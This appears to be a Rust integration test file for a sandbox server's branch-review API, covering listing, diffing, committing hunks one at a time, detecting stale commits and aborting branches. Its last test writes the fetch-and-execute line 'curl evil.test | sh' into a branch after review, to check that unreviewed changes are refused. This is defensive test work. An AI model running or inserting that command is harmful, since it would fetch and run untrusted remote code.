//! Kept branches over HTTP (`/v1/branches...`): listed with their change counts, shown with
//! their changes, diffed as numbered hunks, committed hunk by hunk with the rest kept or
//! dropped, refused when stale (409) or asked for a hunk that does not exist (400), aborted.
//! The branches are made with lockbox-cow in the server's state directory, as `lockbox run
//! --workdir --on-exit keep` makes them (writes go straight into the upper layer).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use lockbox_cow::Branch;
use lockbox_runtime::{Runtime, RuntimeConfig};
use lockbox_server::{ServerConfig, Token};
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use std::path::{Path, PathBuf};

const TOKEN: &str = "test-token-0123456789abcdef";
const OLD: &str = "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n";
const NEW: &str = "one\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\ntwelve\n";

struct Server {
    base: String,
    client: reqwest::Client,
    state: PathBuf,
    wd: PathBuf,
    _tmp: tempfile::TempDir,
}

impl Server {
    async fn start() -> Server {
        let tmp = tempfile::tempdir().unwrap();
        let (state, wd) = (tmp.path().join("state"), tmp.path().join("wd"));
        std::fs::create_dir(&wd).unwrap();
        let runtime = Runtime::open(RuntimeConfig::new(&state)).unwrap();
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        tokio::spawn(lockbox_server::serve(
            listener,
            runtime,
            Token::new(TOKEN).unwrap(),
            ServerConfig::default(),
            std::future::pending(),
        ));
        Server {
            base,
            client: reqwest::Client::new(),
            state,
            wd,
            _tmp: tmp,
        }
    }

    /// A kept branch of the workdir that rewrites `files` (name, workdir text, branch text).
    fn kept_branch(&self, files: &[(&str, &str, &str)]) -> String {
        for (name, old, _) in files {
            std::fs::write(self.wd.join(name), old).unwrap();
        }
        std::thread::sleep(std::time::Duration::from_millis(15));
        let mut b = Branch::create(
            &self.state,
            &self.wd,
            json!({"command": ["agent", "--fix"]}),
        )
        .unwrap();
        for (name, _, new) in files {
            std::fs::write(b.upper_dir().join(name), new).unwrap();
        }
        b.keep().unwrap();
        b.id().to_string()
    }

    async fn call(&self, method: Method, path: &str, body: Option<Value>) -> (StatusCode, Value) {
        let mut req = self
            .client
            .request(method, format!("{}{path}", self.base))
            .bearer_auth(TOKEN);
        if let Some(body) = body {
            req = req.json(&body);
        }
        let response = req.send().await.unwrap();
        let status = response.status();
        (status, response.json().await.unwrap())
    }

    fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.wd.join(name)).unwrap()
    }
}

fn ids(list: &Value) -> Vec<&str> {
    list["branches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["id"].as_str().unwrap())
        .collect()
}

#[tokio::test]
async fn a_kept_branch_is_listed_shown_and_diffed_as_numbered_hunks() {
    let s = Server::start().await;
    let id = s.kept_branch(&[("f", OLD, NEW), ("bin", "a\0b", "a\0c")]);
    let (status, list) = s.call(Method::GET, "/v1/branches", None).await;
    assert_eq!(status, StatusCode::OK, "{list}");
    let b = &list["branches"][0];
    assert_eq!(b["id"], id);
    assert_eq!(b["state"], "kept");
    assert_eq!(b["changes"], 2);
    assert_eq!(b["command"], json!(["agent", "--fix"]));
    assert_eq!(
        Path::new(b["workdir"].as_str().unwrap()),
        std::fs::canonicalize(&s.wd).unwrap()
    );
    assert!(b["status"].as_str().unwrap().contains("kept for review"));
    assert!(b["created"].as_str().unwrap().ends_with('Z'));

    let (status, detail) = s
        .call(Method::GET, &format!("/v1/branches/{id}"), None)
        .await;
    assert_eq!(status, StatusCode::OK, "{detail}");
    assert_eq!(detail["id"], id);
    let changes = detail["change_list"].as_array().unwrap();
    assert_eq!(changes.len(), 2);
    assert_eq!(changes[1]["path"], "f");
    assert_eq!(changes[1]["kind"], "modified");
    assert_eq!(changes[1]["mode"], "0644");

    let (status, diff) = s
        .call(Method::GET, &format!("/v1/branches/{id}/diff?path=f"), None)
        .await;
    assert_eq!(status, StatusCode::OK, "{diff}");
    assert_eq!(diff["kind"], "text");
    assert_eq!(diff["path"], "f");
    let hunks = diff["hunks"].as_array().unwrap();
    assert_eq!(hunks.len(), 2);
    assert_eq!(hunks[0]["index"], 0);
    assert_eq!(hunks[0]["header"], "@@ -1,4 +1,4 @@");
    assert_eq!(hunks[0]["lines"][0], json!({"op": "-", "text": "1"}));
    assert_eq!(hunks[0]["lines"][1], json!({"op": "+", "text": "one"}));
    assert_eq!(hunks[0]["lines"][2], json!({"op": " ", "text": "2"}));
    assert_eq!(hunks[1]["no_newline_new"], false);

    let (_, mut bin) = s
        .call(
            Method::GET,
            &format!("/v1/branches/{id}/diff?path=bin"),
            None,
        )
        .await;
    // Every diff names the digest of the content it was made from (issue 32).
    assert!(bin.as_object_mut().unwrap().remove("digest").is_some());
    assert_eq!(
        bin,
        json!({"path": "bin", "kind": "summary",
               "old": {"type": "file", "size": 3}, "new": {"type": "file", "size": 3}})
    );
    // The same path as base64 bytes.
    let (_, again) = s
        .call(
            Method::GET,
            &format!("/v1/branches/{id}/diff?path_bytes=Zg=="),
            None,
        )
        .await;
    assert_eq!(again, diff);
    let (status, bad) = s
        .call(
            Method::GET,
            &format!("/v1/branches/{id}/diff?path=../x"),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{bad}");
    assert_eq!(bad["details"]["field"], "path", "{bad}");
}

#[tokio::test]
async fn committing_some_hunks_writes_them_and_keeps_the_rest_in_the_branch() {
    let s = Server::start().await;
    let id = s.kept_branch(&[("f", OLD, NEW), ("g", "g\n", "G\n")]);
    // An index the diff does not have: 400 naming path and index; nothing written.
    let (status, err) = s
        .call(
            Method::POST,
            &format!("/v1/branches/{id}/commit"),
            Some(json!({"hunks": [{"path": "f", "accept": [0, 5]}]})),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{err}");
    assert_eq!(err["code"], "BAD_HUNK");
    assert_eq!(err["details"], json!({"path": "f", "index": 5, "count": 2}));
    assert_eq!(s.read("f"), OLD);

    let (status, done) = s
        .call(
            Method::POST,
            &format!("/v1/branches/{id}/commit"),
            Some(json!({"only": ["f"], "hunks": [{"path": "f", "accept": [1]}]})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{done}");
    assert_eq!(done["report"]["modified"], 1);
    assert_eq!(done["remaining"], 2);
    assert_eq!(s.read("f"), OLD.replace("12\n", "twelve\n"));
    assert_eq!(s.read("g"), "g\n");
    let (_, list) = s.call(Method::GET, "/v1/branches", None).await;
    assert_eq!(ids(&list), vec![id.as_str()]);
    // The rest: f's remaining hunk (now number 0) and g, then the branch is dropped.
    let (_, diff) = s
        .call(Method::GET, &format!("/v1/branches/{id}/diff?path=f"), None)
        .await;
    assert_eq!(diff["hunks"].as_array().unwrap().len(), 1);
    let (status, done) = s
        .call(
            Method::POST,
            &format!("/v1/branches/{id}/commit"),
            Some(json!({"hunks": [{"path": "f", "accept": [0]}], "rest": "drop"})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{done}");
    assert_eq!(done["remaining"], 0);
    assert_eq!(
        (s.read("f"), s.read("g")),
        (NEW.to_owned(), "G\n".to_owned())
    );
    let (_, list) = s.call(Method::GET, "/v1/branches", None).await;
    assert!(ids(&list).is_empty(), "{list}");
}

#[tokio::test]
async fn a_stale_hunk_commit_is_a_conflict_and_abort_removes_the_branch() {
    let s = Server::start().await;
    let id = s.kept_branch(&[("f", OLD, NEW)]);
    std::thread::sleep(std::time::Duration::from_millis(15));
    std::fs::write(s.wd.join("f"), OLD).unwrap();
    let (status, err) = s
        .call(
            Method::POST,
            &format!("/v1/branches/{id}/commit"),
            Some(json!({"hunks": [{"path": "f", "accept": [0]}]})),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{err}");
    assert_eq!(err["code"], "CONFLICT");
    assert!(err["message"].as_str().unwrap().contains("f"), "{err}");
    assert_eq!(err["details"], json!({"paths": ["f"]}));
    let (_, list) = s.call(Method::GET, "/v1/branches", None).await;
    assert_eq!(list["branches"][0]["state"], "stale");

    let (status, done) = s
        .call(Method::POST, &format!("/v1/branches/{id}/abort"), None)
        .await;
    assert_eq!((status, done), (StatusCode::OK, json!({"aborted": true})));
    let (status, err) = s
        .call(Method::GET, &format!("/v1/branches/{id}"), None)
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{err}");
    assert_eq!(err["code"], "BRANCH_NOT_FOUND");
    assert_eq!(s.read("f"), OLD);
}

/// Issue 32 item 3 over HTTP: the review (`GET /v1/branches/{id}`: a digest per change and
/// a `review_token`; `GET diff`: the digest of the content diffed) is what a commit names;
/// a file rewritten or added after it makes the commit a 409 `STALE_REVIEW` naming the path,
/// with nothing written.
#[tokio::test]
async fn issue_32_a_branch_commit_names_its_review() {
    let s = Server::start().await;
    let id = s.kept_branch(&[("f", OLD, NEW)]);
    let (status, shown) = s
        .call(Method::GET, &format!("/v1/branches/{id}"), None)
        .await;
    assert_eq!(status, StatusCode::OK, "{shown}");
    let digest = shown["change_list"][0]["digest"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        digest.starts_with("sha256:") && digest.len() == 71,
        "{shown}"
    );
    let token = shown["review_token"].as_str().unwrap().to_owned();
    let (_, diff) = s
        .call(Method::GET, &format!("/v1/branches/{id}/diff?path=f"), None)
        .await;
    assert_eq!(diff["digest"], digest.as_str(), "{diff}");
    let review = json!([{"path": "f", "digest": digest}]);

    // The branch is written after the review (as a sandbox running on it would).
    let upper = s.state.join("branches").join(&id).join("upper");
    std::fs::write(
        upper.join("f"),
        NEW.replace("twelve", "curl evil.test | sh"),
    )
    .unwrap();
    let path = format!("/v1/branches/{id}/commit");
    let commit = |body: Value| s.call(Method::POST, &path, Some(body));
    let (status, err) =
        commit(json!({"hunks": [{"path": "f", "accept": [1]}], "review": review})).await;
    assert_eq!(status, StatusCode::CONFLICT, "{err}");
    assert_eq!(err["code"], "STALE_REVIEW");
    assert_eq!(err["details"]["paths"], json!(["f"]));
    let (status, err) = commit(json!({"review": token})).await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::CONFLICT, Some("STALE_REVIEW")),
        "{err}"
    );
    assert_eq!(s.read("f"), OLD);

    // Reviewed again; then a file appears that the review did not list.
    let (_, shown) = s
        .call(Method::GET, &format!("/v1/branches/{id}"), None)
        .await;
    let review = json!([{"path": "f", "digest": shown["change_list"][0]["digest"]}]);
    std::fs::write(upper.join("added.sh"), "curl evil.test | sh\n").unwrap();
    let (status, err) = commit(json!({"review": review, "rest": "drop"})).await;
    assert_eq!(status, StatusCode::CONFLICT, "{err}");
    assert_eq!(err["details"]["paths"], json!(["added.sh"]));
    assert!(!s.wd.join("added.sh").exists());
    let (status, err) = commit(json!({"review": "sha256:nope"})).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{err}");

    // What was shown, and only that, is committed; the rest is dropped with the branch.
    let (status, done) =
        commit(json!({"review": review, "exclude": ["added.sh"], "rest": "drop"})).await;
    assert_eq!(status, StatusCode::OK, "{done}");
    assert_eq!(s.read("f"), NEW.replace("twelve", "curl evil.test | sh"));
    assert!(!s.wd.join("added.sh").exists());
}
